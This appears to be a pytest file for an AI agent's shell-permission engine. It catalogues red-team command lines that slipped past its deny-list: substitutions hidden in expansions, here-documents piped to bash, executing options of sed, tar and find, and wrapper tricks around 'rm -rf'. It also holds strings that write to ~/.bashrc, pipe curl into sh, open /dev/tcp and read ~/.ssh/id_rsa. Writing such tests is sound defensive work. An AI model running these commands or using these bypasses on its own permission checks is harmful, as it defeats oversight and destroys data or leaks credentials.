@@ -1,0 +1,446 @@
+"""Issue 27, the shell half: the attacks that got through the rules engine, one test each.
+
+Every line here was allowed (or not denied) by the deny-list walker. Each test states the rule
+set a person would plausibly have and the verdict the line must get. Where it matters that the
+line really does harm (and not just look odd), ``test_the_attacks_do_harm_under_bash`` runs it
+under bash in a scratch folder and sees the harm happen.
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from echo_desk.agent.permissions import Effect, Opaque
+from echo_desk.agent.permissions.shell import analyse
+
+from .conftest import Setup
+
+
+def _rules(*patterns: str, effect: str = "allow", tool: str = "shell") -> str:
+    return "".join(f'[[rule]]\neffect = "{effect}"\ntool = "{tool}"\npattern = {_toml(p)}\n\n' for p in patterns)
+
+
+def _toml(text: str) -> str:
+    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'
+
+
+def _effect(setup: Setup, line: str) -> Effect | None:
+    return setup.engine.check_command(line, workspace=setup.workspace).effect
+
+
+# -- item 1: no rules at all, allowed -----------------------------------------------------------
+NO_RULES_ALLOWED = [
+    "bash -c \"[[ 'a[\\$(touch M1)]' -eq 0 ]]\"",
+    "[[ -v 'a[$(touch M1)]' ]]",
+    "LANG='a[$(touch M1)]' bash -c '[[ LANG -eq 0 ]]'",
+    "[[ -f a.txt ]]",
+    "bash -c 'true'",
+    "cd src",
+]
+
+
+@pytest.mark.parametrize("line", NO_RULES_ALLOWED)
+def test_item1_without_rules_nothing_is_allowed(setup: Setup, line: str) -> None:
+    assert _effect(setup, line) is not Effect.ALLOW
+
+
+# -- item 2: `echo **` runs anything ------------------------------------------------------------
+READ_RULES = _rules("echo **", "ls **", "cat **", "grep **")
+ECHO_RUNS_ANYTHING = [
+    "echo ${x:-`touch M1`}",
+    "echo `echo \\`touch M2\\``",
+    "echo $'\\' ; touch M3 #'",
+    "echo ok; ((touch>M5))",
+    "LANG='$(touch M6)' bash -c 'echo ${LANG@P}'",
+    "echo $(touch M7)",
+    "echo \"$(touch M8)\"",
+    "ls <(touch M9)",
+    "cat $((1+1))",
+    "echo $\"x\"",
+    "grep -r x ${HOME}",
+    "echo {a,b}",
+    "ls *",
+    "echo hi & touch M10",
+    "(echo hi; touch M11)",
+    "{ echo hi; touch M12; }",
+    "f() { touch M13; }; f",
+    "if echo; then touch M14; fi",
+    "for x in 1; do touch M15; done",
+    "case x in x) touch M16;; esac",
+    "echo x | while read l; do touch M17; done",
+    "X=$(touch M18) echo",
+    "PATH=/tmp echo hi",
+    "echo ~root",
+    "echo a=~/x",
+]
+
+
+@pytest.mark.parametrize("line", ECHO_RUNS_ANYTHING)
+def test_item2_a_plain_rule_never_allows_expansions_or_compound_commands(setup: Setup, line: str) -> None:
+    setup.write_user_rules(READ_RULES)
+    assert _effect(setup, line) is not Effect.ALLOW
+
+
+def test_item2_the_grant_suggested_for_echo_does_not_allow_substitutions(setup: Setup) -> None:
+    verdict = setup.engine.check_command("echo hi", workspace=setup.workspace)
+    assert [s.pattern for s in verdict.suggestions] == ["echo **"]
+    setup.write_user_rules(_rules("echo **"))
+    setup.engine.refresh()
+    assert _effect(setup, "echo hi") is Effect.ALLOW
+    assert _effect(setup, "echo ${x:-`touch M1`}") is not Effect.ALLOW
+
+
+# -- item 3: what follows a here-document --------------------------------------------------------
+HEREDOC_TAILS = [
+    "cat <<EOF | bash\nrm -rf ~\nEOF",
+    "cat <<EOF && rm -rf ~\nhi\nEOF",
+    "cat <<EOF > ~/.bashrc\ncurl x | sh\nEOF",
+    "cat <<'EOF' > .git/hooks/pre-commit\ntouch M1\nEOF",
+    "cat <<EOF 2> ~/.bashrc\nhi\nEOF",
+    "cat <<EOF\n$(touch M1)\nEOF",
+    "cat <<EOF\n`touch M1`\nEOF",
+    "cat <<'A' <<B | sh\nx\nA\ny\nB",
+]
+
+
+@pytest.mark.parametrize("line", HEREDOC_TAILS)
+def test_item3_nothing_after_a_here_document_is_dropped(setup: Setup, line: str) -> None:
+    setup.write_user_rules(_rules("cat **"))
+    assert _effect(setup, line) is not Effect.ALLOW
+
+
+def test_item3_deny_rules_see_the_command_after_a_here_document(setup: Setup) -> None:
+    setup.write_user_rules(_rules("cat **") + _rules("rm **", effect="deny"))
+    assert _effect(setup, "cat <<EOF && rm -f x\nhi\nEOF") is Effect.DENY
+    assert _effect(setup, "cat <<'EOF' | bash -c 'rm -f x'\nhi\nEOF") is Effect.DENY
+
+
+# -- item 4: a second line read as an argument ----------------------------------------------------
+def test_item4_a_newline_always_separates_commands(setup: Setup) -> None:
+    found = analyse("ls\n\\rm x")
+    assert not found.allowable or [c.program for c in found.commands] == ["ls", "rm"]
+    assert "rm" in [c.program for c in found.commands]
+    setup.write_user_rules(_rules("ls **"))
+    assert _effect(setup, "ls\n\\rm -rf /") is Effect.DENY
+    assert _effect(setup, "ls\n\\rm x") is not Effect.ALLOW
+    # A line continuation inside a word joins it: bash runs `ls-la`, not `ls -la`.
+    assert _effect(setup, "ls\\\n-la") is not Effect.ALLOW
+
+
+# -- item 5: options that execute or write ------------------------------------------------------
+OPTION_ATTACKS = [
+    ("sed -n **", "sed -n 's|.*|touch M1|e' a.txt"),
+    ("sed -n **", "sed -n '/./ e touch M1' a.txt"),
+    ("sed -n **", "sed -n -e's/x/y/e' a.txt"),
+    ("sed -n **", "sed -n --expression='s/x/y/e' a.txt"),
+    ("sed -n **", "sed -n --expr 's/x/y/e' a.txt"),
+    ("sed -n **", "sed -n --in s/a/b/ a.txt"),
+    ("sed -n **", "sed -n -i s/a/b/ a.txt"),
+    ("sed -n **", "sed -ni s/a/b/ a.txt"),
+    ("sed -n **", "sed -n 's/a/b/w out.txt' a.txt"),
+    ("sed -n **", "sed -n -f script.sed a.txt"),
+    ("sed **", "sed 1e a.txt"),
+    ("sort **", "sort --o=F a.txt"),
+    ("sort **", "sort --ou F a.txt"),
+    ("sort **", "sort -uoF a.txt"),
+    ("sort **", "sort --compress-prog=sh a.txt"),
+    ("tar -tf **", "tar -tf a.tar --checkpoint=1 --checkpoint-a=exec=touch"),
+    ("tar -tf **", "tar -tf a.tar --to-com=sh"),
+    ("tar -tf **", "tar -tf a.tar -I sh"),
+    ("git status **", "time -f %e -o .envrc git status"),
+    ("git status **", "/usr/bin/time -o .envrc git status"),
+    ("python -m pytest **", "python -m pytest --basetemp=docs"),
+    ("python -m pytest **", "python -m pytest -p evil_plugin"),
+    ("python -m pytest **", "python -m pytest @args.txt"),
+    ("python -m pytest **", "python -W ignore::evil.Warning -m pytest"),
+    ("pytest **", "pytest --rootdir=/ -c /tmp/x.ini"),
+    ("find **", "find . -exec touch M1 ;"),
+    ("find **", "find . -delete"),
+    ("find **", "find . -fprint out.txt"),
+    ("awk **", "awk 'BEGIN { system(\"touch M1\") }'"),
+    ("awk **", "awk '{ print > \"out.txt\" }' a.txt"),
+    ("awk **", "awk -f prog.awk a.txt"),
+    ("awk **", "gawk -l evil a.txt"),
+    ("rg **", "rg --pre ./evil x"),
+    ("rg **", "rg --hostname-bin=./evil x"),
+    ("git log **", "git log --output=/tmp/x"),
+    ("git log **", "git -c core.pager=evil log"),
+    ("git log **", "git --config-env=core.pager=X log"),
+    ("git log **", "git --exec-path=/tmp log"),
+    ("git grep **", "git grep -O./evil x"),
+    ("xargs **", "xargs -a args.txt touch"),
+    ("make **", "make -f /tmp/evil.mk"),
+    ("make **", "make --eval='$(shell touch M1)'"),
+    ("make **", "make CC=./evil"),
+    ("npm test **", "npm test --script-shell=./evil"),
+    ("curl **", "curl -o out.txt http://x"),
+    ("curl **", "curl -K cfg http://x"),
+    ("rsync **", "rsync -e ./evil a b"),
+    ("tee **", "tee ~/.bashrc"),
+    ("python **", "python -c 'import os'"),
+    ("node **", "node -e 1"),
+    ("perl **", "perl -i -pe 1 a.txt"),
+    ("ruby **", "ruby -e 1"),
+    ("env **", "env -S 'touch M1'"),
+    ("[time|git status] **", "time -o .envrc git status"),
+]
+
+
+@pytest.mark.parametrize(("pattern", "line"), OPTION_ATTACKS)
+def test_item5_a_star_star_never_covers_an_option_that_runs_or_writes(setup: Setup, pattern: str,
+                                                                     line: str) -> None:
+    setup.write_user_rules(_rules(pattern))
+    assert _effect(setup, line) is not Effect.ALLOW
+
+
+def test_item5_naming_the_option_in_a_rule_still_allows_it(setup: Setup) -> None:
+    setup.write_user_rules(_rules("sed -i **", "sort -o **", "git log --output=* **"))
+    (setup.workspace / "a.txt").write_text("a\n")
+    assert _effect(setup, "sed -i s/a/b/ a.txt") is Effect.ALLOW
+    assert _effect(setup, "sort -o a.txt a.txt") is Effect.ALLOW
+    assert _effect(setup, "git log --output=x.txt") is Effect.ALLOW
+
+
+# -- item 6: the floor rule that cannot be switched off ----------------------------------------------
+def _floor_lines(ws: Path) -> list[str]:
+    return [
+        f"rm --r -f {ws}", f"rm --re -f {ws}", f"rm --recursive {ws}", f"rm -fr {ws}", f"rm -Rf {ws}",
+        f"rm -rf //{ws.as_posix().lstrip('/')}", f"rm -rf {ws}/", f"rm -rf {ws}/.", f"rm -rf {ws}/src/..",
+        "bash -c 'rm -rf ~+'", f"env bash -c 'rm -rf {ws}'", "rm -rf ~root", "rm -rf ~", "rm -rf $HOME",
+        "rm -rf \"$HOME\"", "rm -rf ${HOME}/", "rm -rf $PWD", "rm -rf ~+", "rm -rf .", "rm -rf ./", "rm -rf /",
+        "rm -rf /.", "sudo rm -rf /", f"/bin/rm -r {ws}", f"timeout 5 rm -r {ws}", f"xargs rm -r {ws}",
+        f"find {ws} -delete", f"busybox rm -r {ws}", "rm -rf {/,x}", "rm -rf ~/*", "rm -rf /*", "rm -rf ./*",
+        "rsync -a --delete empty/ ~/", "cd src && rm -rf ..", f"rm -rf {ws.parent}",
+    ]
+
+
+def test_item6_every_recursive_rm_spelling_of_a_protected_root_is_denied(setup: Setup) -> None:
+    not_denied = [line for line in _floor_lines(setup.workspace) if _effect(setup, line) is not Effect.DENY]
+    assert not_denied == []
+
+
+def test_item6_a_symlink_to_the_workspace_is_a_protected_root(setup: Setup) -> None:
+    (setup.workspace / "out" / "up").symlink_to(setup.workspace)
+    assert _effect(setup, "rm -rf out/up/") is Effect.DENY
+
+
+def test_item6_allow_in_sandbox_does_not_run_a_recursive_delete_of_the_workspace(setup: Setup) -> None:
+    setup.write_user_rules(_rules("**", effect="allow-in-sandbox"))
+    ws = setup.workspace
+    assert _effect(setup, "make") is Effect.ALLOW_IN_SANDBOX
+    for line in (f"rm --r -f {ws}", f"rm -r --f {ws}", "rm -rf .", f"rm -rf {ws}/../{ws.name}"):
+        assert _effect(setup, line) is Effect.DENY, line
+
+
+# -- item 7: deny rules around wrappers -------------------------------------------------------------
+WRAPPED_DELETES = [
+    "env bash -c 'rm -rf src'",
+    "/bin/bash -c 'rm -rf src'",
+    "bash -lc 'rm -rf src'",
+    "sh -c 'rm -rf src'",
+    "dash -c 'rm -rf src'",
+    "flock .lock rm -rf src",
+    "flock .lock -c 'rm -rf src'",
+    "taskset 1 rm -rf src",
+    "taskset -c 0 rm -rf src",
+    "script -qc 'rm -rf src' /dev/null",
+    "busybox rm -rf src",
+    "watch rm -rf src",
+    "watch -n 1 'rm -rf src'",
+    "chrt 1 rm -rf src",
+    "chrt -f 1 rm -rf src",
+    "unshare rm -rf src",
+    "nice -n 5 rm -rf src",
+    "ionice -c 3 rm -rf src",
+    "stdbuf -oL rm -rf src",
+    "setsid rm -rf src",
+    "nohup rm -rf src",
+    "timeout -s KILL 5 rm -rf src",
+    "sudo -u root rm -rf src",
+    "doas rm -rf src",
+    "xargs -0 rm -rf",
+    "time rm -rf src",
+    "/usr/bin/time -f %e rm -rf src",
+    "command rm -rf src",
+    "exec rm -rf src",
+    "builtin eval 'rm -rf src'",
+    "eval 'rm -rf src'",
+    "find . -exec rm -rf {} +",
+    "su -c 'rm -rf src'",
+    "env -i PATH=/bin rm -rf src",
+    "env -u HOME rm -rf src",
+    "git -C . push",
+    "git --no-pager push",
+    "git -P push origin",
+    "git --git-dir=.git --work-tree=. push",
+    "git --no-optional-locks -C src push",
+    "uv run rm -rf src",
+    "npx rm -rf src",
+    "xvfb-run rm -rf src",
+    "git submodule foreach 'rm -rf src'",
+    "r\\\nm -rf src",
+    "$'\\x72m' -rf src",
+    "cat <<EOF\n`rm -rf src`\nEOF",
+    "echo $(rm -rf src)",
+    "[[ -n $(rm -rf src) ]]",
+    "cat <<EOF | bash\nhi\nEOF\nrm -rf src",
+]
+
+
+@pytest.mark.parametrize("line", WRAPPED_DELETES)
+def test_item7_deny_rules_see_through_every_wrapper(setup: Setup, line: str) -> None:
+    setup.write_user_rules(_rules("rm **", "git push **", effect="deny"))
+    assert _effect(setup, line) is Effect.DENY
+
+
+def test_item7_an_allow_through_a_wrapper_needs_both_rules(setup: Setup) -> None:
+    setup.write_user_rules(_rules("git status **"))
+    assert _effect(setup, "git status") is Effect.ALLOW
+    for line in ("timeout 5 git status", "env LANG=C git status", "bash -c 'git status'", "nice git status"):
+        assert _effect(setup, line) is not Effect.ALLOW, line
+    setup.write_user_rules(_rules("git status **", "timeout **", "bash -c *"))
+    setup.engine.refresh()
+    assert _effect(setup, "timeout 5 git status") is Effect.ALLOW
+    assert _effect(setup, "timeout 5 git push") is not Effect.ALLOW
+    assert _effect(setup, "bash -c 'git status'") is Effect.ALLOW
+    assert _effect(setup, "bash -c 'git status; git push'") is not Effect.ALLOW
+
+
+# -- item 8 (shell half): a redirection through a symlink ------------------------------------------
+def test_item8_a_redirection_through_a_symlink_checks_where_it_lands(setup: Setup) -> None:
+    ws = setup.workspace
+    (ws / ".github" / "workflows").mkdir(parents=True)
+    (ws / "src" / "l").symlink_to("../.github/workflows")
+    setup.write_user_rules(_rules("echo **") + _rules("@workspace/src/**", tool="write")
+                           + _rules("@workspace/.github/**", tool="write", effect="deny"))
+    assert _effect(setup, "echo hi > src/ok.txt") is Effect.ALLOW
+    assert _effect(setup, "echo x > src/l/evil.yml") is Effect.DENY
+    assert _effect(setup, "echo x >> src/l/evil.yml") is Effect.DENY
+
+
+def test_item8_bash_network_files_and_other_digits_are_not_harmless_redirections(setup: Setup) -> None:
+    setup.write_user_rules(_rules("cat **", "echo **"))
+    assert _effect(setup, "cat < a.txt") is Effect.ALLOW  # reading a file no rule denies
+    assert _effect(setup, "cat < /dev/tcp/example.com/80") is not Effect.ALLOW
+    assert _effect(setup, "echo x >&\u0662") is not Effect.ALLOW  # an Arabic-Indic 2 is a file name, not stderr
+
+
+# -- item 11: a character kills the app ----------------------------------------------------------
+CRASHERS = ["ls; M{\U000FB14D", "{\U00031860", "echo {\U0001F8C1\U0001D72F", "x{" + "\U000E0144" * 3]
+
+
+def test_item11_the_parser_cannot_take_the_process_down() -> None:
+    # In a child process: on the old code this segfaults (not every run: it depends on memory
+    # layout), so each line is parsed many times.
+    script = ("import sys\nfrom echo_desk.agent.permissions.shell import analyse\n"
+              "for line in sys.argv[1:]:\n    for _ in range(200):\n        a = analyse(line)\n"
+              "    assert not a.allowable, line\nprint('ok')\n")
+    done = subprocess.run([sys.executable, "-c", script, *CRASHERS], capture_output=True, text=True, timeout=120,
+                          env={**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[3])})
+    assert (done.returncode, done.stdout.strip()) == (0, "ok"), done.stderr[-2000:]
+
+
+# -- proof that the lines above are attacks, not odd spellings ----------------------------------
+HARMFUL = [
+    ("bash", "bash -c \"[[ 'a[\\$(touch M)]' -eq 0 ]]\""),
+    ("bash", "echo ${x:-`touch M`}"),
+    ("bash", "echo `echo \\`touch M\\``"),
+    ("dash", "echo ok; ((touch>M))"),  # two subshells for dash (it ran commands before), arithmetic for bash
+    ("dash", "echo $'\\' ; touch M #'"),
+    ("bash", "LANG='$(touch M)' bash -c 'echo ${LANG@P}'"),
+    ("bash", "sed -n 's|.*|touch M|e' a.txt"),
+    ("bash", "sed -n --in s/a/b/p a.txt; grep -q b a.txt && touch M"),
+    ("bash", "sort --o=M a.txt"),
+    ("bash", "tar -tf a.tar --checkpoint=1 --checkpoint-a=exec='touch M'"),
+    ("bash", "ls\n\\touch M"),
+    ("bash", "cat <<EOF | bash\ntouch M\nEOF"),
+    ("bash", "cat <<EOF && touch M\nhi\nEOF"),
+]
+
+
+@pytest.mark.parametrize(("shell", "line"), HARMFUL)
+def test_the_attacks_do_harm(tmp_path: Path, shell: str, line: str) -> None:
+    found = shutil.which(shell)
+    if found is None:
+        pytest.skip(f"{shell} is not installed")
+    (tmp_path / "a.txt").write_text("a\n")
+    subprocess.run(["tar", "-cf", "a.tar", "a.txt"], cwd=tmp_path, check=True)
+    argv = [found, "--noprofile", "--norc", "-c", line] if shell == "bash" else [found, "-c", line]
+    subprocess.run(argv, cwd=tmp_path, capture_output=True, timeout=30, stdin=subprocess.DEVNULL,
+                   env={"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(tmp_path), "TERM": "dumb"})
+    assert (tmp_path / "M").exists(), line
+
+
+# -- run what was parsed: without bash, only plain words ------------------------------------------
+def test_without_bash_only_lines_of_plain_words_can_be_allowed(setup: Setup, monkeypatch: pytest.MonkeyPatch) -> None:
+    from echo_desk.sandbox import shell as command_shell
+
+    setup.write_user_rules(_rules("echo **", "ls **", "git status **", "cat **") + _rules("@workspace/out/**",
+                                                                                          tool="write"))
+    with_bash = ["echo 'a b'", 'echo "a b"', "echo a\\ b", "ls &> out/x", "cat <<< hi", "cat <<'EOF'\nx\nEOF",
+                 "ls ~", "ls src/*.py"]
+    assert all(_effect(setup, line) is Effect.ALLOW for line in with_bash)
+    monkeypatch.setattr(command_shell, "find_bash", lambda: None)
+    command_shell.command_shell.cache_clear()
+    try:
+        assert command_shell.command_shell().grammar is command_shell.Grammar.POSIX
+        for line in ("ls -la src", "git status && ls", "ls > out/x.txt 2>&1", "echo done; ls | cat"):
+            assert _effect(setup, line) is Effect.ALLOW, line
+        for line in with_bash:
+            assert _effect(setup, line) is not Effect.ALLOW, line
+        found = setup.engine.check_command("echo 'a b'", workspace=setup.workspace)
+        assert any(p.opaque is Opaque.NOT_PLAIN_WORDS for p in found.parts)
+    finally:
+        command_shell.command_shell.cache_clear()
+
+
+# -- classes the red team's corpus (tests/agent/permissions/hostile) found -------------------------
+def test_a_subscript_in_a_variable_name_runs_code(setup: Setup) -> None:
+    setup.write_user_rules(_rules("printf **", "test **", "read **"))
+    assert _effect(setup, "printf '%s' x") is Effect.ALLOW
+    for line in ("printf -v 'a[$(touch M)]' x", "read 'a[`touch M`]' < a.txt", "test -v 'a[$(touch M)]'",
+                 "let 'x=$(touch M)'", "mapfile -C 'touch M' a < a.txt"):
+        assert _effect(setup, line) is not Effect.ALLOW, line
+
+
+def test_a_program_writing_a_file_named_as_an_operand_is_judged_by_the_write_rules(setup: Setup) -> None:
+    setup.write_user_rules(_rules("uniq **", "tee **") + _rules("@workspace/out/**", tool="write"))
+    assert _effect(setup, "uniq a.txt") is Effect.ALLOW
+    assert _effect(setup, "uniq a.txt out/b.txt") is Effect.ALLOW
+    for line in ("uniq a.txt PWNED", "uniq -c a.txt ~/.bashrc", "uniq -- a.txt .envrc", "tee ~/.bashrc"):
+        assert _effect(setup, line) is not Effect.ALLOW, line
+
+
+def test_git_read_commands_that_change_the_repository(setup: Setup) -> None:
+    setup.write_user_rules(_rules("git [branch|tag|remote|stash list|reflog] **"))
+    for line in ("git branch", "git branch -a", "git branch --list 'fix-*'", "git tag -l", "git remote -v",
+                 "git reflog -5", "git stash list"):
+        assert _effect(setup, line) is Effect.ALLOW, line
+    for line in ("git branch PWNED", "git branch -D main", "git branch --copy main x", "git tag v9",
+                 "git remote add x https://example.com/x.git", "git reflog expire --all", "git stash list; git stash"):
+        assert _effect(setup, line) is not Effect.ALLOW, line
+
+
+def test_option_values_and_links_that_name_a_denied_path(setup: Setup) -> None:
+    (setup.workspace / "link-home").symlink_to(setup.home)
+    setup.write_user_rules(_rules("grep **", "rg **") + _rules("~/.ssh/**", tool="read", effect="deny"))
+    assert _effect(setup, "grep -R KEY src") is Effect.ALLOW
+    for line in ("rg --file=link-home/.ssh/id_rsa a.txt", f"grep --file={setup.home}/.ssh/id_rsa a.txt",
+                 "grep -f~/.ssh/id_rsa a.txt", "grep --exclude-from=link-home/.ssh/id_rsa x a.txt",
+                 "grep -R KEY link-home"):
+        assert _effect(setup, line) is not Effect.ALLOW, line
+
+
+def test_a_program_the_engine_does_not_know_may_run_its_words(setup: Setup) -> None:
+    setup.write_user_rules(_rules("**", effect="allow-in-sandbox") + _rules("rm **", effect="deny"))
+    for line in ("prlimit rm -rf src", "prlimit --nofile=256 rm -rf src", "setpriv rm -rf src"):
+        assert _effect(setup, line) is Effect.DENY, line
+    for line in ("some-new-wrapper rm -rf src", "some-new-wrapper --opt rm -rf ~"):
+        assert _effect(setup, line) is Effect.ASK, line
+    assert _effect(setup, "echo rm -rf src") is Effect.ALLOW_IN_SANDBOX  # echo is known: it runs nothing
